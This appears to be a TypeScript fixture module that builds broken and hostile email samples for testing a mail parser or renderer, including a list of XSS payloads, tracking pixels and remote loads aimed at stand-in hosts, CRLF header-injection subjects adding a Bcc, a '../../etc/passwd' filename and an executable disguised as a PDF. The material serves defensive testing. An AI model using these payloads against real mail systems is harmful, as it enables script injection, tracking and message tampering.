import { randomBytes } from 'node:crypto';

export interface Sample {
  readonly name: string;
  readonly bytes: Buffer;
}

interface Header {
  readonly from?: string;
  readonly subject?: string;
  readonly id?: string;
  readonly more?: string;
}

/** A message with the usual header. */
export const message = (
  body: string,
  {
    from = 'Ingrid Vold <ingrid@lind.example>',
    subject = 'Laycan',
    id = randomBytes(6).toString('hex'),
    more = '',
  }: Header = {},
): string =>
  `From: ${from}\r\nTo: Operations <ops@nordhav.example>\r\nSubject: ${subject}\r\nMessage-ID: <${id}@lind.example>\r\nDate: Tue, 24 Nov 2026 08:00:00 +0000\r\n${more}${body.startsWith('Content-') ? '' : '\r\n'}${body}`;

const sample = (name: string, content: string | Buffer): Sample => ({
  name,
  bytes: Buffer.isBuffer(content) ? content : Buffer.from(content, 'latin1'),
});

const multipart = (kind: string, parts: readonly string[], boundary = 'edge'): string =>
  `Content-Type: multipart/${kind}; boundary="${boundary}"\r\n\r\n${parts.map((part) => `--${boundary}\r\n${part}\r\n`).join('')}--${boundary}--\r\n`;

const html = (content: string): string =>
  `Content-Type: text/html; charset=utf-8\r\n\r\n${content}`;

/** Markup that runs, fetches or tells the sender that it was read. Its text must never reach a screen as markup. */
export const hostileMarkup: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://track.example/p.gif?u=1" width=1 height=1>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=p></form>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<div style="background:url(https://track.example/a.png)">x</div>',
  '<div style="position:fixed;top:0;width:100%">x</div>',
  '<style>@import url(https://track.example/a.css)</style>',
  '<link rel=stylesheet href="https://track.example/a.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<video src="https://track.example/v"></video><audio src="https://track.example/a"></audio>',
  '<table background="https://track.example/b.png"><tr><td>x</td></tr></table>',
  '<img srcset="https://track.example/s.png 2x" alt="x">',
  '<p onclick="alert(1)">x</p><body onload=alert(1)>',
];

const charsets: readonly string[] = [
  'utf-8',
  'iso-8859-1',
  'windows-1252',
  'koi8-r',
  'iso-2022-jp',
  'gb2312',
  'x-unknown',
  '',
];
const transfers: readonly string[] = [
  '7bit',
  '8bit',
  'base64',
  'quoted-printable',
  'x-none',
  'binary',
];

function nested(depth: number): string {
  let body = 'Content-Type: text/plain\r\n\r\ndeep';
  for (let at = 0; at < depth; at += 1) body = multipart('mixed', [body], `b${at}`);
  return body;
}

const crafted: readonly Sample[] = [
  sample('empty', ''),
  sample('only line ends', '\r\n\r\n\r\n'),
  sample('only a header', 'Subject: Nothing else\r\n'),
  sample('no header', 'just a text without any header\n\nand more'),
  sample('bare line feeds', message('hello').replaceAll('\r\n', '\n')),
  sample('bare carriage returns', message('hello').replaceAll('\r\n', '\r')),
  sample('null characters', `Subject: a\0b\r\nFrom: x\0 <x@y.example>\r\n\r\nbo\0dy`),
  sample('all bytes', Buffer.from(Array.from({ length: 4096 }, (_, at) => at % 256))),
  sample(
    'random bytes',
    Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * at * 31 + at * 7) % 256)),
  ),
  sample(
    'no end of the boundary',
    message('Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nx'),
  ),
  sample('no boundary', message('Content-Type: multipart/mixed\r\n\r\nx')),
  sample(
    'an empty boundary',
    message('Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nx\r\n----'),
  ),
  sample('broken base64', message('Content-Transfer-Encoding: base64\r\n\r\n!!!=A=A==A')),
  sample(
    'broken quoted-printable',
    message('Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=3=\r\n='),
  ),
  sample('a broken encoded word', message('x', { subject: '=?utf-8?B?////?= =?x?Q?=ZZ?=' })),
  sample('lines in the subject', message('x', { subject: 'Laycan\r\n Bcc: victim@evil.example' })),
  sample(
    'encoded lines in the subject',
    message('x', { subject: '=?utf-8?Q?Laycan=0D=0ABcc:_victim@evil.example?=' }),
  ),
  sample(
    'encoded lines in the name',
    message('x', { from: '=?utf-8?Q?A=0D=0ATo:_v@evil.example?= <a@b.example>' }),
  ),
  sample('a long subject', message('x', { subject: 'y'.repeat(100_000) })),
  sample('a long word in the header', `X-Long: ${'z'.repeat(3_000_000)}\r\nSubject: Long\r\n\r\nx`),
  sample(
    'many recipients',
    `To: ${Array.from({ length: 5000 }, (_, at) => `a${at}@b.example`).join(', ')}\r\n\r\nx`,
  ),
  sample(
    'many references',
    `References: ${Array.from({ length: 5000 }, (_, at) => `<r${at}@b.example>`).join(' ')}\r\n\r\nx`,
  ),
  sample(
    '10,000 parts',
    message(
      multipart(
        'mixed',
        Array.from({ length: 10_000 }, () => 'Content-Type: text/plain\r\n\r\nx'),
      ),
    ),
  ),
  sample(
    '10,000 attachments',
    message(
      multipart(
        'mixed',
        Array.from(
          { length: 10_000 },
          (_, at) =>
            `Content-Type: application/pdf; name="${at}.pdf"\r\nContent-Disposition: attachment\r\n\r\nx`,
        ),
      ),
    ),
  ),
  sample('1,000 deep', message(nested(1000))),
  sample('30 deep', message(nested(30))),
  sample('HTML 20,000 deep', message(html(`${'<div>'.repeat(20_000)}deep`))),
  sample('a long HTML', message(html(`<p>${'long '.repeat(400_000)}</p>`))),
  sample(
    'a mail in a mail',
    message(multipart('mixed', [`Content-Type: message/rfc822\r\n\r\n${message('inner')}`])),
  ),
  sample(
    'a false PDF',
    message(
      multipart('mixed', [
        'Content-Type: application/pdf; name=a.pdf\r\nContent-Disposition: attachment; filename=a.pdf\r\n\r\nMZ program',
      ]),
    ),
  ),
  sample(
    'a path as a name',
    message(
      multipart('mixed', [
        'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="../../etc/passwd"\r\n\r\nx',
      ]),
    ),
  ),
  sample('a date that is none', `Date: 99 Foo 12345 99:99\r\nSubject: Date\r\n\r\nx`),
  sample('a year that is none', `Date: Tue, 24 Nov 9999 08:00:00 +0000\r\nSubject: Year\r\n\r\nx`),
  sample(
    'groups of addresses',
    `To: Team: a@b.example, c@d.example;, Undisclosed:;\r\nFrom: Group: x@y.example;\r\n\r\nx`,
  ),
  sample('no sender', 'To: a@b.example\r\nSubject: From no one\r\n\r\nx'),
  sample('half a character', 'Subject: \ud83d\r\n\r\n\ud83d'),
  sample(
    'characters across every limit',
    Buffer.from(
      `From: "${'a'.repeat(199)}🚢" <a@b.example>\r\nTo: "${'b'.repeat(199)}🚢" <c@d.example>\r\nSubject: ${'s'.repeat(299)}🚢\r\n${multipart('related', [`Content-Type: image/png; name="${'n'.repeat(199)}🚢"\r\nContent-ID: <${'i'.repeat(299)}🚢>\r\nContent-Disposition: inline\r\n\r\nx`, `Content-Type: text/plain; charset=utf-8\r\n\r\n${'t'.repeat(99_999)}🚢`])}`,
    ),
  ),
  sample(
    'null characters in names',
    message(
      multipart('related', [
        'Content-Type: image/png; name="a\0b.png"\r\nContent-ID: <a\0b@x.example>\r\nContent-Disposition: inline\r\n\r\nx',
      ]),
    ),
  ),
  sample(
    'null characters in a report',
    message(
      multipart('report; report-type=delivery-status', [
        'Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\nFinal-Recipient: rfc822; a\0@b.example\r\nAction: failed\r\nDiagnostic-Code: smtp; 550 \0 refused\r\n',
      ]),
    ),
  ),
];

/** Messages as they should not be: broken structures, charsets, bombs and hostile markup. */
export const samples: readonly Sample[] = [
  ...crafted,
  ...hostileMarkup.map((markup, at) =>
    sample(`hostile markup ${at}`, message(html(`<p>Seen</p>${markup}`))),
  ),
  ...charsets.flatMap((charset) =>
    transfers.map((transfer) =>
      sample(
        `${charset || 'no charset'}, ${transfer}`,
        message(
          `Content-Type: text/plain; charset=${charset}\r\nContent-Transfer-Encoding: ${transfer}\r\n\r\nGr\xfc\xdfe =E4 \x1b$B%F\x1b(B w6Qg`,
        ),
      ),
    ),
  ),
];

/** A report of a mail server that a mail was not delivered (RFC 3464). */
export const bounce = ({
  id,
  to,
  action = 'failed',
}: {
  readonly id: string;
  readonly to: string;
  readonly action?: string;
}): string =>
  message(
    multipart('report; report-type=delivery-status', [
      'Content-Type: text/plain\r\n\r\nYour mail was not delivered.',
      `Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.port.example\r\n\r\nFinal-Recipient: rfc822; ${to}\r\nAction: ${action}\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 No such\r\n user here\r\n`,
      `Content-Type: text/rfc822-headers\r\n\r\nFrom: a@b.example\r\nMessage-ID: ${id}\r\nSubject: Laycan\r\n`,
    ]),
    {
      from: 'Mail Delivery System <MAILER-DAEMON@port.example>',
      subject: 'Undelivered Mail Returned to Sender',
    },
  );
